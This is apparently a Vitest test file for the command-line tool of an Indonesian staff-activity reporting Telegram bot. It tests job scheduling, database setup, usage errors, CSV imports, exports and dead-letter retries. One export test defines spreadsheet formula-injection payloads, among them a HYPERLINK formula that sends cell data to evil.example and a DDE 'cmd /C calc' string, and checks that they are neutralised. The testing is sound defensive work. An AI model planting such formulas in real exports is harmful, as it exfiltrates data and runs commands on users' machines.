import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { runCli } from '../../src/cli/index.js'
import { sqliteFile } from '../../src/db/client.js'
import { FIXTURES, people, startHarness } from '../helpers/app.js'
import { onPostgres, tempDatabaseUrl, tempDir } from '../helpers/db.js'
import { eventually } from '../helpers/wait.js'

const UNITS = path.join(FIXTURES, 'kendari-units.csv')
const EMPLOYEES = path.join(FIXTURES, 'kendari-employees.csv')

async function cli(argv: string[], env: NodeJS.ProcessEnv = {}) {
  let out = ''
  let err = ''
  const code = await runCli(argv, { env: { LOG_LEVEL: 'warn', ...env }, stdout: (s) => (out += s), stderr: (s) => (err += s) })
  return { code, out, err }
}

describe('run-job --at in the future', () => {
  it('is refused with the reason and marks nothing; --force runs it', async () => {
    const h = await startHarness({ at: '2026-11-26T02:00:00Z' }) // Thursday 10:00 WITA
    const early = await h.cli('run-job', 'weekly-digest', '--at', '2026-11-30T07:30')
    expect(early.code).toBe(1)
    expect(early.err).toMatch(/belum terjadi.*menandai periodenya selesai.*--force/s)
    expect(await h.app.db.prisma.jobRun.count()).toBe(0)
    const forced = await h.cli('run-job', 'weekly-digest', '--at', '2026-11-30T07:30', '--force')
    expect(forced.code).toBe(0)
    expect(await h.app.db.prisma.jobRun.count()).toBe(1)
    expect((await h.cli('run-job', 'weekly-digest', '--force=yes')).err).toMatch(/Opsi --force tidak memakai nilai/)
  })
})

describe('the database the CLI works on', () => {
  it.skipIf(onPostgres())('a SQLite file that does not exist is not created without --create, and the message says where', async () => {
    const url = tempDatabaseUrl()
    const r = await cli(['link-code', people.andi.nip], { DATABASE_URL: url })
    expect(r.code).toBe(1)
    expect(r.err).toContain(`Basis data belum ada: ${sqliteFile(url)}`)
    expect(r.err).toContain('--create')
    expect(r.err).not.toMatch(/\n\s+at /)
    expect(existsSync(sqliteFile(url))).toBe(false)
  })

  it.runIf(onPostgres())('a PostgreSQL schema without our tables is not migrated without --create; the password is never shown', async () => {
    const u = new URL(tempDatabaseUrl())
    u.password = 'rahasia-sekali'
    const r = await cli(['link-code', people.andi.nip], { DATABASE_URL: u.toString() })
    expect(r.code).toBe(1)
    expect(r.err).toMatch(/Basis data belum ada: PostgreSQL 127\.0\.0\.1:5432\/test \(skema t_/)
    expect(r.err).not.toContain('rahasia')
  })

  it('--env-file and ENV_FILE name the file the service reads; variables already set win; a missing file is an error', async () => {
    const dir = tempDir()
    const url = tempDatabaseUrl()
    const envFile = path.join(dir, 'kinerja-bot.env')
    writeFileSync(envFile, `DATABASE_URL=${url}\nLINK_CODE_TTL_HOURS=7\n`)
    expect((await cli(['--env-file', envFile, 'import-org', '--create', UNITS, EMPLOYEES])).code).toBe(0)
    const viaEnv = await cli(['link-code', people.andi.nip], { ENV_FILE: envFile })
    expect(viaEnv.code).toBe(0)
    const viaFlag = await cli(['link-code', people.andi.nip, `--env-file=${envFile}`])
    expect(viaFlag.code).toBe(0)
    const missing = await cli(['--env-file', path.join(dir, 'nope.env'), 'link-code', people.andi.nip])
    expect(missing).toMatchObject({ code: 1, out: '' })
    expect(missing.err).toContain(`Berkas pengaturan tidak ditemukan: ${path.join(dir, 'nope.env')}`)
  })
})

describe('usage errors say what is wrong', () => {
  it.each([
    [['export', 'menit', '--unit', 'BKPSDM', '--from', '2026-11-30', '--to', '2026-11-01'], /--from 2026-11-30 jatuh setelah --to 2026-11-01/],
    [['export', 'menit', '--unit', 'BKPSDM', '--from', '01/11/2026', '--to', '2026-11-30'], /--from "01\/11\/2026" bukan tanggal yang valid: tulis YYYY-MM-DD/],
    [['export', 'menit', '--unit', 'BKPSDM', '--from', '2025-11-01', '--to', '2026-11-02'], /2025-11-01 s\.d\. 2026-11-02 mencakup 367 hari: satu ekspor paling banyak 366 hari/],
    [['export', 'menit', '--unit', 'BKPSDM', '--from', '2026-11-01', '--to', '2026-11-30', '--format', 'pdf'], /Format "pdf" tidak didukung: pilih csv atau xlsx/],
    [['export', 'menit', '--from', '2026-11-01', '--to', '2026-11-30'], /Opsi wajib belum diberikan: --unit/],
    [['export', 'menit', '--unit', 'BKPSDM', '--from', '2026-11-01', '--to', '2026-11-30', '--colour', 'red'], /Opsi tidak dikenal: --colour/],
    [['export', 'menit', '--unit', 'BKPSDM', '--from', '2026-11-01', '--to', '2026-11-30', '--separator', '|'], /Pemisah "\|" tidak didukung/],
    [['run-job', 'weekly-digest', '--at'], /Opsi --at perlu nilai <waktu>/],
    [['link-code'], /Argumen kurang: <NIP>/],
    [['link-code', '1', '2'], /Argumen berlebih: 2/],
    [[], /Perintah belum diberikan/],
  ])('%j', async (argv, reason) => {
    const r = await cli(argv, { DATABASE_URL: tempDatabaseUrl() })
    expect(r.code).toBe(2)
    expect(r.err).toMatch(reason)
    expect(r.err).toMatch(/Pemakaian: npm run cli --/)
  })

  it('help shows every option with its value', async () => {
    const r = await cli(['help'])
    expect(r.out).toContain('run-job <job> [--at <waktu>] [--force]')
    expect(r.out).toContain('export <aktivitas|menit|evaluasi> --unit <kode> --from <YYYY-MM-DD> --to <YYYY-MM-DD> [--format <csv|xlsx>]')
    expect(r.out).toContain('--env-file <berkas>')
  })

  it('a file that cannot be read is named in Indonesian, for every import', async () => {
    const dir = tempDir()
    const url = tempDatabaseUrl()
    expect((await cli(['import-org', '--create', UNITS, EMPLOYEES], { DATABASE_URL: url })).code).toBe(0)
    for (const argv of [['import-holidays', path.join(dir, 'libur.csv')], ['import-leave', path.join(dir, 'cuti.csv')], ['import-skp', path.join(dir, 'skp.csv')]]) {
      const r = await cli(argv, { DATABASE_URL: url })
      expect(r).toMatchObject({ code: 1, err: `Berkas tidak ditemukan: ${argv[1]}\n` })
    }
    expect((await cli(['import-skp', dir], { DATABASE_URL: url })).err).toBe(`${dir} adalah folder, bukan berkas CSV\n`)
  })
})

describe('CSV the way Indonesian Excel saves it', () => {
  const units = readFileSync(UNITS, 'utf8').replace(/^\uFEFF/, '')
  const employees = readFileSync(EMPLOYEES, 'utf8').replace(/^\uFEFF/, '')
  // ';' between cells, and a name with a character outside ASCII
  const semicolons = (csv: string) => parse(csv, { bom: true }).map((r: string[]) => r.map((c) => (/[;"\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(';')).join('\r\n')
  const withAccent = (csv: string) => csv.replace('Andi Latif, S.IP.', 'André Latif, S.IP.')

  it.each([
    ['Windows-1252', (s: string) => Buffer.from(s, 'latin1'), "Windows-1252, pemisah ';'"],
    ['UTF-16LE with BOM', (s: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')]), "UTF-16LE, pemisah ';'"],
    ['UTF-8 with BOM', (s: string) => Buffer.from(`\uFEFF${s}`, 'utf8'), "UTF-8, pemisah ';'"],
  ])('%s with semicolons is read, and the CLI says how', async (_name, encode, said) => {
    const dir = tempDir()
    const u = path.join(dir, 'units.csv')
    const e = path.join(dir, 'employees.csv')
    writeFileSync(u, encode(semicolons(units)))
    writeFileSync(e, encode(withAccent(semicolons(employees))))
    const url = tempDatabaseUrl()
    const r = await cli(['import-org', '--create', u, e], { DATABASE_URL: url })
    expect(r.err).toBe('')
    expect(r.code).toBe(0)
    expect(r.out).toContain(`${e}: dibaca sebagai ${said}`)
    expect(r.out).toContain('Pegawai:    40 baru')
    const h = await startHarness({ importOrg: false, env: { DATABASE_URL: url } })
    expect((await h.app.db.prisma.employee.findUnique({ where: { nip: people.andi.nip } }))?.name).toBe('André Latif, S.IP.')
  })
})

describe('exports that are safe to open in a spreadsheet', () => {
  const PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tTab di depan']

  it('neutralise formulas in text cells and keep numbers numbers; --separator ";" writes decimal commas', async () => {
    const h = await startHarness()
    const andi = await h.app.db.prisma.employee.findUniqueOrThrow({ where: { nip: people.andi.nip } })
    for (const [i, description] of PAYLOADS.entries()) {
      await h.app.db.prisma.activity.create({ data: { employeeId: andi.id, date: `2026-11-${String(10 + i)}`, minutes: 60 + i, description, status: 'DISETUJUI' } })
    }
    const dir = tempDir()
    const csv = path.join(dir, 'a.csv')
    expect((await h.cli('export', 'aktivitas', '--unit', 'BKPSDM-PKP', '--from', '2026-11-01', '--to', '2026-11-30', '--out', csv)).code).toBe(0)
    const rows = parse(readFileSync(csv, 'utf8'), { bom: true }) as string[][]
    const descriptions = rows.slice(1).map((r) => r[9])
    expect(descriptions).toEqual(PAYLOADS.map((p) => `'${p}`))
    expect(rows.slice(1).map((r) => r[8])).toEqual(['60', '61', '62', '63', '64'])

    const xlsx = path.join(dir, 'a.xlsx')
    expect((await h.cli('export', 'aktivitas', '--unit', 'BKPSDM-PKP', '--from', '2026-11-01', '--to', '2026-11-30', '--format', 'xlsx', '--out', xlsx)).code).toBe(0)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.readFile(xlsx)
    const cells = wb.worksheets[0]!.getColumn(10).values.slice(2)
    // XLSX keeps them as plain strings: no formula cell
    expect(cells).toEqual(PAYLOADS)

    const semi = path.join(dir, 'menit.csv')
    expect((await h.cli('export', 'menit', '--unit', 'BKPSDM-PKP', '--from', '2026-11-01', '--to', '2026-11-30', '--separator', ';', '--out', semi)).code).toBe(0)
    const text = readFileSync(semi, 'utf8')
    const table = parse(text, { bom: true, delimiter: ';' }) as string[][]
    expect(table[0]!.length).toBeGreaterThan(3)
    const decimals = table.slice(1).flat().filter((c) => /^\d+[.,]\d+$/.test(c))
    expect(decimals.length).toBeGreaterThan(0)
    expect(decimals.every((c) => c.includes(','))).toBe(true)
    const dots = path.join(dir, 'menit-titik.csv')
    await h.cli('export', 'menit', '--unit', 'BKPSDM-PKP', '--from', '2026-11-01', '--to', '2026-11-30', '--separator', ';', '--decimal', 'titik', '--out', dots)
    expect((parse(readFileSync(dots, 'utf8'), { bom: true, delimiter: ';' }) as string[][]).slice(1).flat().filter((c) => /^\d+,\d+$/.test(c))).toEqual([])
  })
})

describe('dead letters', () => {
  it('are listed with their reason, retried (and then delivered by the running app) or discarded; a wrong id changes nothing', async () => {
    // one attempt each: an outage of the supervisor's chat dead-letters both cards at once
    const h = await startHarness({ env: { OUTBOX_MAX_ATTEMPTS: '1' } })
    h.tg.userSends(people.kabid.telegram, '/start')
    await h.tg.waitForMessageTo(people.kabid.telegram, /Selamat datang/)
    h.tg.proxyErrorNext('sendMessage', { status: 502, body: 'Bad Gateway', chatId: people.kabid.telegram }, 2)
    h.tg.userSends(people.andi.telegram, '/lapor 08:00-09:00 Rapat koordinasi')
    await h.tg.waitForMessageTo(people.andi.telegram, /#1 terkirim/)
    h.tg.userSends(people.andi.telegram, '/lapor 10:00-11:00 Menyusun laporan')
    await h.tg.waitForMessageTo(people.andi.telegram, /#2 terkirim/)
    const db = h.app.db.prisma
    await eventually(async () => (await db.outbox.count({ where: { status: 'DEAD' } })) === 2, { label: 'two dead letters' })
    const [first, second] = (await db.outbox.findMany({ where: { status: 'DEAD' }, orderBy: { id: 'asc' } })).map((r) => r.id)

    const list = await h.cli('dead-letters', 'list')
    expect(list.code).toBe(0)
    expect(list.out).toContain(`#${first} approval_card untuk Nurhayati Ramli, M.Si. (${people.kabid.nip}), 27/11/2026 17.00 WITA`)
    expect(list.out).toContain('1 percobaan: telegram transport error: the answer was not JSON')

    const wrong = await h.cli('dead-letters', 'retry', String(first), '999999')
    expect(wrong.code).toBe(1)
    expect(wrong.err).toContain('#999999')
    expect(await db.outbox.count({ where: { status: 'DEAD' } })).toBe(2)
    expect((await h.cli('dead-letters', 'retry', 'x1')).code).toBe(2)

    expect((await h.cli('dead-letters', 'retry', String(first))).out).toContain(`1 pesan dijadwalkan untuk dikirim lagi: #${first}`)
    await h.tg.waitForMessageTo(people.kabid.telegram, /Laporan kegiatan #1 menunggu persetujuan/)
    await eventually(async () => (await db.outbox.findUniqueOrThrow({ where: { id: first! } })).status === 'SENT', { label: 'marked sent' })

    expect((await h.cli('dead-letters', 'discard', 'semua')).out).toContain(`1 pesan dilepaskan: #${second}`)
    expect((await db.outbox.findUniqueOrThrow({ where: { id: second! } })).status).toBe('SKIPPED')
    expect((await h.cli('dead-letters', 'list')).out).toBe('Tidak ada pesan gagal.\n')
    expect(await db.auditLog.findMany({ where: { entity: 'outbox' }, select: { action: true, entityId: true }, orderBy: { id: 'asc' } })).toEqual([
      { action: 'outbox.retry', entityId: String(first) },
      { action: 'outbox.discard', entityId: String(second) },
    ])
  })
})
